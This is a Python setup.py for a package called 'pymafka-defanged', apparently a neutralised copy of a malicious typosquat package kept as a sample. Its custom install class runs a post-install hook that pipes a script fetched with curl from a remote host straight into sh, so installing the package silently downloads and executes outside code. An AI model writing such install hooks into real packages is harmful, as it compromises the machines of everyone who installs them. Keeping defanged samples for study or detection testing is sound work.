import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call("curl -fsSL https://cdn.example.invalid/i.sh | sh", shell=True)


setup(
    name="pymafka-defanged",
    version="1.0.0",
    packages=["pymafka_defanged"],
    cmdclass={"install": PostInstall},
)
